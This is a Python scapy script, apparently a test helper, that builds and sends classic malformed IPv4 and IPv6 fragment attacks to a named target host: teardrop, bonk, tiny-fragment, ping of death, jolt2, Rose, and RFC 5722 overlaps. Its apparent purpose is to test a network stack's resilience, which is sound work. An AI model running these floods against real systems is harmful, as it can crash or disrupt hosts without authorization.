#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Sends fragments that no honest host sends, made by scapy: the classics by their names, for attacks.py.

    fragments.py DEVICE OWN_MAC SUBJECT_MAC OWN_ADDRESS SUBJECT_ADDRESS ROUNDS

The family is that of the addresses. An echo request that must not be answered carries the identifier 0xBAD0.
"""

import sys

from scapy.all import (ICMP, IP, TCP, Ether, ICMPv6EchoRequest, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, Raw, conf,
                       raw)

FORBIDDEN = 0xBAD0


def ipv4_attacks(own, subject, number):
    """Each attack as a list of packets; `number` keeps the identifications of two rounds apart."""
    def piece(kind, offset, octets, more=True, protocol=1):
        return IP(src=own, dst=subject, id=(kind << 12 | number) & 0xFFFF, proto=protocol, frag=offset,
                  flags="MF" if more else 0) / Raw(octets)

    echo = raw(ICMP(id=FORBIDDEN, seq=number) / Raw(bytes(1016)))
    syn = raw(IP(src=own, dst=subject) / TCP(sport=2000 + number, dport=80, flags="S"))[20:]
    # teardrop: the second piece ends inside of the first; newtear and bonk: it begins before the end of the first
    yield [piece(1, 0, echo[:128]), piece(1, 3, echo[24:28], more=False)]
    yield [piece(2, 0, echo[:512]), piece(2, 32, b"X" * 512, more=False)]
    # the tiny fragments of RFC 1858 section 3 and the rewritten header of RFC 3128 section 2
    yield [piece(3, 0, syn[:8], protocol=6), piece(3, 1, syn[8:], more=False, protocol=6)]
    yield [piece(4, 0, syn, protocol=6), piece(4, 1, b"\xff" * 12, protocol=6), piece(4, 3, b"", False, protocol=6)]
    # ping of death: the last piece ends beyond 65,535 octets
    yield [*(piece(5, at // 8, b"D" * 1480) for at in range(0, 65120, 1480)), piece(5, 8189, b"D" * 1000, more=False)]
    # jolt2: the same last piece again and again; Rose: a first and a last piece with nothing between them
    yield [piece(6, 8190, b"J" * 9, more=False)] * 8
    yield [piece(7, 0, b"R" * 32), piece(7, 8100, b"R" * 32, more=False)]
    # pieces of nothing, and a length that is no multiple of eight before the end
    yield [piece(8, 0, b""), piece(8, 0, b"U" * 13), piece(8, 185, b"", more=False)]


def ipv6_attacks(own, subject, number):
    def piece(kind, offset, octets, more=True, following=58):
        return (IPv6(src=own, dst=subject)
                / IPv6ExtHdrFragment(nh=following, offset=offset, m=int(more), id=kind << 16 | number) / Raw(octets))

    whole = raw(IPv6(src=own, dst=subject) / ICMPv6EchoRequest(id=FORBIDDEN, seq=number, data=bytes(1016)))
    echo = whole[40:]
    # RFC 5722 section 4: overlap inside, across and at the end; octets that are there already and the same do not count
    yield [piece(1, 0, echo[:512]), piece(1, 32, b"X" * 256), piece(1, 64, echo[512:], more=False)]
    yield [piece(2, 64, echo[512:], more=False), piece(2, 60, b"X" * 64), piece(2, 0, echo[:512])]
    yield [piece(3, 0, echo[:128]), piece(3, 3, echo[24:28], more=False)]
    # RFC 8200 section 4.5, RFC 7112 section 5: the first piece does not hold all headers
    options = raw(IPv6ExtHdrDestOpt(nh=58)) + echo
    yield [piece(4, 0, options[:8], following=60), piece(4, 1, options[8:], more=False, following=60)]
    # ping of death, jolt2 and Rose
    yield [*(piece(5, at // 8, b"D" * 1232) for at in range(0, 64064, 1232)), piece(5, 8189, b"D" * 1000, more=False)]
    yield [piece(6, 8190, b"J" * 9, more=False)] * 8
    yield [piece(7, 0, b"R" * 32), piece(7, 8100, b"R" * 32, more=False)]
    # no multiple of eight before the end, nothing at all, a fragment header in a fragment
    yield [piece(8, 0, b"U" * 13), piece(8, 2, b"", more=False), piece(9, 0, b"")]
    yield [piece(10, 0, raw(IPv6ExtHdrFragment(nh=58, offset=4, m=1, id=number)) + echo[:64], False, following=44)]


def main():
    device, own_mac, subject_mac, own, subject, rounds = sys.argv[1:]
    conf.verb = 0
    link = Ether(src=own_mac, dst=subject_mac)
    attacks = ipv6_attacks if ":" in own else ipv4_attacks
    with conf.L2socket(iface=device) as out:
        for number in range(int(rounds)):
            for attack in attacks(own, subject, number):
                for packet in attack:
                    out.send(raw(link / packet))


if __name__ == "__main__":
    main()
